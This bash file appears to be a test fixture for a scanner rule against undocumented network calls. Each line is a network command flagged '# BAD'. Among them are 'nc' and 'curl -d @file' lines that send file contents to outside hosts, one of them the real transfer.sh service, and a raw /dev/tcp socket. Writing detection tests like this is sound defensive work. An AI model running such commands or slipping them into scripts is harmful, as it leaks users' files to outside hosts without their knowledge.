#!/usr/bin/env bash
curl -s https://zero.example/x # BAD no-undocumented-network/undisclosed
wget -qO- one.example/x # BAD no-undocumented-network/undisclosed
H=two.example; curl "https://$H/x" # BAD no-undocumented-network/undisclosed
nc three.example 443 < file # BAD no-undocumented-network/undisclosed
ssh user@four.example uptime # BAD no-undocumented-network/undisclosed
git clone https://five.example/x.git # BAD no-undocumented-network/undisclosed
curl -d @file https://transfer.sh/x # BAD no-undocumented-network/collector
exec 3<>/dev/tcp/six.example/80 # BAD no-undocumented-network/undisclosed
curl "$1" # BAD no-undocumented-network/unknown-host
